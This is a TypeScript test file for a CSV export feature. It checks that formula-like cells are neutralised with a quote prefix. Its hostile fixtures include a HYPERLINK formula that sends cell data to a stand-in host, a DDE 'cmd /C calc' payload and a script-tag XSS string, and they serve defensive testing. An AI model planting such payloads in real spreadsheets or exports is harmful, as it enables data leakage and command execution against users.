import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { exportLibrary } from '../../../src/core/export/exportLibrary'
import { ExportJob } from '../../../src/core/export/ExportJob'
import { neutralizeFormula } from '../../../src/core/export/neutralizeFormula'
import { CSV_COLUMNS } from '../../../src/core/export/renderCsv'
import type { FilledLibrary } from './filledLibrary'
import { filledLibrary } from './filledLibrary'

let filled: FilledLibrary

beforeAll(async () => {
  filled = await filledLibrary()
})
afterAll(() => filled.cleanup())

async function csv(excel = false): Promise<string> {
  const { files } = await exportLibrary(filled.library, { format: 'csv', excel }, new ExportJob())
  expect(files[0]!.mimeType).toBe('text/csv; charset=utf-8')
  return files[0]!.content
}

/** A cell as the analyst wrote it: the neutralising quote taken off again. */
function unneutralized(cell: string): string {
  return /^'[=+\-@\t\r\n\0]/.test(cell) ? cell.slice(1) : cell
}

describe('the CSV export', () => {
  it('has one row per highlight, claim and article note, with every column', async () => {
    const rows = parse(await csv(), { columns: true }) as Record<string, string>[]
    expect(Object.keys(rows[0]!)).toEqual([...CSV_COLUMNS])
    expect(rows.map((r) => r.kind).sort()).toEqual([
      'claim',
      'claim',
      'claim',
      'claim',
      'highlight',
      'highlight',
      'note'
    ])
    const union = rows.find((r) => r.quote === 'roughly 2,400 workers walked out 👷🏽')!
    expect(union).toMatchObject({
      'article title': '🚢 Harbour report',
      claimant: 'Ilse Marrow',
      attribution: 'named',
      status: 'disputed',
      reliability: 'B',
      credibility: '3',
      tags: 'figures; @mention',
      note: 'Union figure; <b>check</b> payroll'
    })
    expect(union.links).toMatch(/^← contradicts [0-9a-f-]{36}; ← repeats [0-9a-f-]{36}$/)
    const text = (await filled.library.article(filled.astral.id)).text
    expect(text.slice(Number(union.start), Number(union.end))).toBe(union.quote)
  })

  it('re-parses hostile cells (formulas, quotes, commas, newlines) to the same values minus the prefix', async () => {
    const content = await csv()
    expect(content).toContain('\r\n')
    const rows = parse(content, { columns: true }) as Record<string, string>[]
    const hostile = rows.filter((r) => r['article id'] === filled.hostile.id)
    const highlight = hostile.find((r) => r.kind === 'highlight')!
    expect(highlight.note).toBe('\'=HYPERLINK("http://x") "quoted", with comma\nand a second line')
    expect(unneutralized(highlight.note!)).toBe(
      '=HYPERLINK("http://x") "quoted", with comma\nand a second line'
    )
    const claim = hostile.find((r) => r.kind === 'claim')!
    expect(claim.quote).toBe('\'=HYPERLINK("http://x/?"&A1, "win")')
    expect(claim.tags).toBe("'=evil; a,b")
    expect(claim['article title']).toBe('<script>alert(1)</script> =cmd|/c calc')
    expect(claim.note).toBe("Seen twice\n=cmd|' /C calc'!A0")
    // Quoted, though a bare LF is all it holds that CSV quotes for: a spreadsheet that
    // took the LF for the end of the record would find a live formula on the next line.
    expect(content).toContain(`"Seen twice\n=cmd|' /C calc'!A0"`)
    // Every cell that starts like a formula starts with the quote instead.
    for (const row of rows)
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r\n\0]/)
  })

  it('neutralises each trigger character, and only those', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r', '\n', '\0'])
      expect(neutralizeFormula(`${start}1+2`)).toBe(`'${start}1+2`)
    for (const safe of ['1+2', 'a=b', ' =x', "'quoted", '', '€5'])
      expect(neutralizeFormula(safe)).toBe(safe)
  })

  it('starts with a UTF-8 byte-order mark for Excel, and parses the same', async () => {
    const plain = await csv()
    const excel = await csv(true)
    expect(excel.charCodeAt(0)).toBe(0xfeff)
    expect(excel.slice(1)).toBe(plain)
    expect(parse(excel, { bom: true, columns: true })).toEqual(parse(plain, { columns: true }))
  })
})
